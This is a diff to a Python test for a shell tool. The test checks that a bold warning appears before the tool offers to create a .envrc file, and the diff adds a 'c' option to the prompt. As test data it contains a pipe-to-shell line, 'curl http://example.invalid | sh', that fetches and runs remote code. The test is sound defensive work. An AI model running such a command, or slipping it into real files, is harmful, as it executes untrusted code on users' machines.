@@ -61,7 +61,7 @@ def test_at_the_terminal_it_stands_in_bold_above_the_question(planned: Shell) ->
     terminal.wait_for("+curl http://example.invalid | sh")
     terminal.wait_for(WARNING)
     assert "\x1b[1;31mwarning: other tools run .envrc" in terminal.raw
-    terminal.wait_for("Create .envrc? [y/N/p/d]")
+    terminal.wait_for("Create .envrc? [y/N/p/c/d]")
     assert not (planned.project / ".envrc").exists()
     terminal.type("n\n")
     assert terminal.wait_exit() == 3
